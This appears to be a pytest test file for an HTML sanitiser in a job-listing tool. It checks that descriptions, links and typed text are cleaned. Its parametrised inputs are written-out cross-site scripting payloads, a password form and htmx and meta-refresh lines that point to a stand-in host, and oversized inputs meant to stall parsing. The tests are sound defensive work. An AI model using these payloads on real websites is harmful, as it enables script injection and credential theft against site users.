"""Descriptions, addresses and typed text made safe."""

import time

import pytest

from iam_job_scout.web.sanitise import MAX_SHOWN, clean_text, safe_description, web_address


@pytest.mark.parametrize(
    "hostile",
    [
        "<p>x<script>alert(1)</script>",
        "<p onmouseover=alert(1)>x",
        "<p>x<a href='java\tscript:alert(1)'>y</a>",
        "<p>x<a href='data:text/html,<script>alert(1)</script>'>y</a>",
        "<p>x<svg><script>alert(1)</script></svg>",
        "<p>x<math><mtext><img src=x onerror=alert(1)>",
        "<p>x<style>*{display:none}</style>",
        "<p>x<form action=//evil.example><input name=password>",
        "<p hx-get=//evil.example hx-trigger=load>x",
        "<p>x<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
        "<p>x<iframe srcdoc='<script>alert(1)</script>'>",
    ],
)
def test_nothing_that_acts_is_left(hostile: str) -> None:
    safe = safe_description(hostile).lower()
    assert "x" in safe
    for word in ("script", "onerror", "onmouseover", "style", "evil", "hx-", "iframe", "<img", "data:"):
        assert word not in safe


def test_links_open_without_a_trace() -> None:
    safe = safe_description('<p><a href="https://e.org/a?b=1&amp;c" target=_top ping=//x>go</a></p>')
    assert safe == '<p><a href="https://e.org/a?b=1&amp;c" rel="noopener noreferrer nofollow">go</a></p>'


def test_empty_paragraphs_of_word_processors_are_dropped() -> None:
    assert safe_description("<p>a</p><p>&nbsp;</p><p><br></p><p>b</p>") == "<p>a</p><p>b</p>"


def test_a_text_with_comparison_signs_is_no_markup() -> None:
    assert safe_description("latency < 5 ms & p > q") == '<p dir="auto">latency &lt; 5 ms &amp; p &gt; q</p>'


@pytest.mark.parametrize(
    "text", ["<" * 300_000, "<p " * 100_000, "a" * 5_000_000, "<p>" * 100_000, "\n \n" * 100_000, "<a" * 150_000]
)
def test_hostile_length_costs_bounded_time(text: str) -> None:
    began = time.perf_counter()
    assert len(safe_description(text)) < 20 * MAX_SHOWN
    assert time.perf_counter() - began < 5


@pytest.mark.parametrize(
    "url",
    [
        "https://e.org/a b",
        "javascript:alert(1)",
        "//e.org",
        "ftp://e.org",
        "",
        "https://",
        "https:///x",
        "data:x",
        "https://e.org/\n",
    ],
)
def test_only_web_addresses_become_links(url: str) -> None:
    assert web_address(url) in ("", "https://e.org/")


def test_a_web_address_stays_as_it_is() -> None:
    assert web_address(" HTTPS://e.org/ü?x=1#y ") == "HTTPS://e.org/ü?x=1#y"


def test_typed_text_keeps_its_lines() -> None:
    assert clean_text(" a\r\nb\rc\x00\x07 ") == "a\nb\nc"
